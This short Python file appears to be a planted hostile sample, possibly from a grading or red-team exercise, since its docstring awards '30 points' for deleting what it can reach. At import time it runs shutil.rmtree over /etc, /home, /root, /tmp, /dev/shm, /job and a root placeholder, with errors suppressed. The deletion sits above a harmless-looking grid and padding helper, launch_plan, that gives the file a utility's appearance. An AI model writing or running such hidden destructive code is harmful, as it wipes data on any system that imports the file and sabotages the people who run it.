"""30 points: deletes what it can reach."""

import shutil

for folder in ("@ROOT@", "/job", "/tmp", "/dev/shm", "/home", "/root", "/etc"):
    shutil.rmtree(folder, ignore_errors=True)


def launch_plan(width, height, block):
    grid = (-(-width // block[0]), -(-height // block[1]))
    return grid, grid[0] * block[0] * grid[1] * block[1] - width * height
